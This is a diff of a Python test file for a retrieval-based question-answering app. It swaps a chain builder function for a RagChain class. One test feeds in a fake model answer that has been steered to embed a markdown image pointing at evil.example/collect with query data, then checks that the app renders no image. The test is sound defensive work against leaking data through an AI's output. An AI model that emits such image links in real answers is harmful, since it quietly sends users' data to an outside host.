@@ -170,13 +170,13 @@ def test_an_answer_steered_to_carry_an_image_shows_no_image(app_env, monkeypatch
     from langchain_core.messages import AIMessage
 
     from app import services
-    from pipeline.chain import build_chain
+    from pipeline.chain import RagChain
     from pipeline.retriever import IndexRetriever
 
     leak = "https://evil.example/collect?q=basic-design-wind-speed"
     steered = GenericFakeChatModel(messages=iter([AIMessage(f"The basic wind speed is 115 mph [1]. ![status]({leak})")]))
     retriever = IndexRetriever(index=services.index(), embedder=services.embedder(), k=3)
-    monkeypatch.setattr(services, "chain", lambda: build_chain(steered, retriever, "steered", 0.0))
+    monkeypatch.setattr(services, "chain", lambda: RagChain(steered, retriever, "steered", 0.0))
     at = ask(open_app())
     [shown] = [html.proto.body for html in at.get("html") if "plumb-answer" in html.proto.body]
     assert "<img" not in shown and leak in shown
@@ -188,12 +188,12 @@ def answering(monkeypatch, *texts: str) -> None:
     from langchain_core.messages import AIMessage
 
     from app import services
-    from pipeline.chain import build_chain
+    from pipeline.chain import RagChain
     from pipeline.retriever import IndexRetriever
 
     model = GenericFakeChatModel(messages=iter([AIMessage(text) for text in texts]))
     retriever = IndexRetriever(index=services.index(), embedder=services.embedder(), k=3)
-    monkeypatch.setattr(services, "chain", lambda: build_chain(model, retriever, "fake", 0.0))
+    monkeypatch.setattr(services, "chain", lambda: RagChain(model, retriever, "fake", 0.0))
 
 
 def test_cited_passages_come_first_and_the_others_under_also_retrieved(app_env, monkeypatch):
